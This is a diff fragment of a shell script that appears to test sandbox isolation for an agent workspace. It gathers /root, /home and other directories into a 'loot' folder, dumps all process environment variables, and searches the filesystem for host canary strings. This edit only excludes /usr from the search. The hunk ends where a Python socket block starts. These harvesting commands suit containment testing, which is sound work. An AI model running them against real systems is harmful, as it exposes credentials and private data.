@@ -6,7 +6,8 @@ for p in /work /home /root /srv /opt /tmp/agentrl-host-canary.txt /var/run/docke
   cp -r "$p" /app/loot/ 2>/dev/null
 done
 for e in /proc/[0-9]*/environ; do tr '\0' '\n' < "$e" 2>/dev/null; done > /app/loot/environ
-grep -r -a -h -o 'CANARY-[A-Za-z0-9-]*' / --exclude-dir=proc --exclude-dir=sys --exclude-dir=loot 2>/dev/null \
+# (/usr is the host's system, bound read-only on purpose: docs/workspaces.md "Not covered"; the canary is not there)
+grep -r -a -h -o 'CANARY-[A-Za-z0-9-]*' / --exclude-dir=proc --exclude-dir=sys --exclude-dir=loot --exclude-dir=usr 2>/dev/null \
   | head -5 > /app/loot/grep
 python3 - <<'PY'
 import socket
